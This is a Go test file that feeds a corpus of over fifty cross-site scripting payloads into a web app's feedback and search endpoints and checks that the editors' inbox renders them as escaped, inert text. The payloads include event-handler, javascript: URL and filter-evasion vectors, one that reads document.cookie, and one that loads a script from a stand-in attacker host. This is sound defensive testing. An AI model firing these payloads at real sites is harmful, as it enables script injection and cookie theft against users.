package web_test

import (
	"context"
	"encoding/json"
	"net/url"
	"strings"
	"supple/internal/servertest"
	"testing"
)

// xssCorpus holds 50+ payloads that break out of text, attributes, URLs,
// scripts and styles when a page forgets to escape.
var xssCorpus = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `"><script>alert(1)</script>`,
	`'><script>alert(1)</script>`, `javascript:alert(1)`, `<a href="javascript:alert(1)">x</a>`, `<iframe src="javascript:alert(1)">`,
	`<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>`,
	`<video><source onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`, `<object data="javascript:alert(1)">`, `<embed src="javascript:alert(1)">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<style>@import'javascript:alert(1)';</style>`, `<link rel=stylesheet href=javascript:alert(1)>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<base href="javascript:alert(1)//">`, `<form action=javascript:alert(1)><button>x`,
	`<isindex action=javascript:alert(1) type=image>`, `<textarea></textarea><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
	`</script><script>alert(1)</script>`, `<!--<img src="--><img src=x onerror=alert(1)//">`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<div style="background:url(javascript:alert(1))">`, `<div style="x:expression(alert(1))">`, `<img src="x` + "`" + `onerror=alert(1)>`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`, `<svg><script>alert&#40;1&#41;</script>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<sCrIpT>alert(1)</ScRiPt>`,
	`"onmouseover="alert(1)`, `' onmouseover='alert(1)`, `" autofocus onfocus="alert(1)`, `{{.}}{{template "x"}}`, `${alert(1)}`,
	"`-alert(1)-`", `<img src=1 onerror=alert(document.cookie)>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<svg/onload=alert(1)>`, `<img/src/onerror=alert(1)>`, `<x onclick=alert(1)>click`, `<table background="javascript:alert(1)">`,
	`<div data-x="&quot;><script>alert(1)</script>">`, "line one\n<script>alert(1)</script>\nline three", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
}

// Every payload sent as feedback is stored exactly and shows up in the
// editors' inbox and the CLI's JSON as inert text.
func TestXSSCorpusIsInert(t *testing.T) {
	t.Parallel()
	if len(xssCorpus) < 50 {
		t.Fatalf("corpus has %d payloads", len(xssCorpus))
	}
	h := servertest.New(t)
	for _, p := range xssCorpus {
		body, _ := json.Marshal(map[string]any{"text": p, "stars": 1})
		if r := h.JSON(nil, servertest.APIArticle+"/feedback", string(body)); r.StatusCode != 201 {
			t.Fatalf("payload %q: %d %s", p, r.StatusCode, r.Body)
		}
	}
	items, err := h.Srv.DB.ListFeedback(context.Background(), storeFilter(""))
	if err != nil || len(items) != len(xssCorpus) {
		t.Fatalf("stored %d of %d (%v)", len(items), len(xssCorpus), err)
	}
	stored := map[string]bool{}
	for _, it := range items {
		stored[it.Text] = true
	}
	for _, p := range xssCorpus {
		if !stored[strings.TrimSpace(p)] {
			t.Errorf("payload not stored exactly: %q", p)
		}
	}
	editor := h.SignedIn("e@example.org", "editor")
	page := h.Get(editor, "/editor/feedback").Body
	for _, bad := range []string{"<script>alert", "<img src=x onerror", "<svg onload", "<iframe", "javascript:alert(1)\">", "onerror=alert(1)>", "<SCRIPT SRC"} {
		if strings.Contains(page, bad) {
			t.Errorf("the inbox renders %q live", bad)
		}
	}
	// Searching for a payload echoes it escaped.
	for _, p := range xssCorpus[:10] {
		r := h.Get(nil, "/search?q="+urlEscape(p))
		if strings.Contains(r.Body, p) && strings.ContainsAny(p, "<>\"") {
			t.Errorf("search echoes %q unescaped", p)
		}
	}
}

func urlEscape(s string) string { return url.QueryEscape(s) }
